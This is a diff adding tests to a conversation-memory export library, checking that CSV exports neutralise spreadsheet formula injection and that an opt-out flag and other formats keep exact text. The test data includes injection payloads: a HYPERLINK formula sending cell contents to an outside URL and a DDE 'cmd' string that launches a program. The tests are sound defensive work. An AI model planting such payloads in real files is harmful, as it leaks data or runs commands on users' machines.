@@ -18,7 +18,12 @@ from langchain_core.messages import AIMessage, HumanMessage
 from langgraph.store.memory import InMemoryStore
 
 from langgraph_agentstore import ConfigurationError, MissingExtraError
-from langgraph_agentstore.conversations import ConversationMemory, aexport_items, new_turn
+from langgraph_agentstore.conversations import (
+    ConversationMemory,
+    aexport_items,
+    export_items,
+    new_turn,
+)
 from langgraph_agentstore.conversations.export import ROW_GROUP
 from langgraph_agentstore.conversations.ordering import in_order
 
@@ -68,6 +73,62 @@ def test_csv_holds_the_same(memory: ConversationMemory, tmp_path: Path) -> None:
     assert rows[2]["response"] == HOSTILE
     assert json.loads(rows[2]["metadata"]) == {"n": 2}
     assert json.loads(rows[-1]["messages"])[0]["data"]["content"] == "hi"
+
+
+FORMULAS = (
+    '=HYPERLINK("https://example.org/?"&A1,"open")',
+    "+1+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+)
+
+
+@pytest.fixture
+def formulas() -> ConversationMemory:
+    memory = ConversationMemory(InMemoryStore(), "=ann")
+    for text in FORMULAS:
+        memory.save_turn(text, text, f"{text} thread")
+    return memory
+
+
+def test_no_cell_of_a_csv_is_a_formula(formulas: ConversationMemory, tmp_path: Path) -> None:
+    formulas.export(tmp_path / "turns.csv")
+    formulas.store.put(("@docs",), "=key", {"text": "=1+1"})
+    export_items(formulas.store, tmp_path / "items.csv")
+    for name in ("turns.csv", "items.csv"):
+        cells = [cell for row in rows_of(tmp_path / name) for cell in row.values()]
+        assert not [cell for cell in cells if cell.startswith(tuple(text[0] for text in FORMULAS))]
+    rows = rows_of(tmp_path / "turns.csv")
+    assert [row["query"] for row in rows] == [f"'{text}" for text in FORMULAS]
+    assert {row["user_id"] for row in rows} == {"'=ann"}
+
+
+async def test_exact_texts_are_given_on_request(
+    formulas: ConversationMemory, tmp_path: Path
+) -> None:
+    path = tmp_path / "exact.csv"
+    formulas.export(path, escape_formulas=False)
+    assert [row["query"] for row in rows_of(path)] == list(FORMULAS)
+    await formulas.aexport(path, escape_formulas=False)
+    assert [row["response"] for row in rows_of(path)] == list(FORMULAS)
+    for exported in (
+        export_items(formulas.store, path, escape_formulas=False),
+        await aexport_items(formulas.store, path, escape_formulas=False),
+    ):
+        assert exported == len(FORMULAS)
+        assert {row["user_id"] for row in rows_of(path)} == {"=ann"}
+
+
+@pytest.mark.parametrize("format", ["jsonl", "parquet"])
+def test_other_formats_are_exact(formulas: ConversationMemory, tmp_path: Path, format: Any) -> None:
+    path = tmp_path / f"exact.{format}"
+    formulas.export(path, format)
+    rows = rows_of(path) if format == "jsonl" else pyarrow.parquet.read_table(path).to_pylist()
+    assert [row["query"] for row in rows] == list(FORMULAS)
 
 
 def test_parquet_holds_the_same_with_times_as_times(
